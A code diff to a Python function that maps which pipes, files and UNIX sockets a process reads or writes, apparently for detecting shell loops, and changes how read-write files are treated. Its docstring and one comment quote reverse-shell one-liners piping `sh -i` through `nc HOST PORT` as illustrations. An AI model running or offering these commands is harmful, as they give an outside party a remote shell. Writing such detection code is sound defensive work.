@@ -182,8 +182,8 @@ def stdio_links(pid: int) -> tuple[str, ...]:
 
 def read_ends(pid: int, peers: UnixPeers | None = None) -> Ends:
     """The pipes, FIFOs and regular files ``pid`` has open, each as read or written
-    (fdinfo's flags; a file only where opened for either: a file open read-write is a
-    store), and, given ``peers``, its connected UNIX sockets, each both. A file
+    (fdinfo's flags; a file open read-write only as written: a store), and, given
+    ``peers``, its connected UNIX sockets, each both. A file
     closes a loop as a FIFO does where one process appends to it and another follows it
     (`tail -f log | sh -i 2>&1 | nc HOST PORT >> log`), and a UNIX socket where its two ends'
     holders pass on what they read (`… | nc -U SOCKET > f` to a relay holding the
@@ -201,11 +201,11 @@ def read_ends(pid: int, peers: UnixPeers | None = None) -> Ends:
             mode = _access_mode(pid, fd) if end is not None else None
         except OSError:
             continue  # closed meanwhile
-        if mode == os.O_RDWR and end.startswith("file:"):
-            continue  # a store (a database, a lock file), not a stream: each holder would
-            # both read and write it, joining every process that shares one
         if mode is not None:
-            if mode != os.O_WRONLY:
+            # a file open read-write is written, not followed: a store (a database, a lock
+            # file) would otherwise join every two processes sharing it; `nc … 1<>log` still
+            # feeds `tail -f log`
+            if mode == os.O_RDONLY or (mode == os.O_RDWR and not end.startswith("file:")):
                 reads.add(end)
             if mode != os.O_RDONLY:
                 writes.add(end)
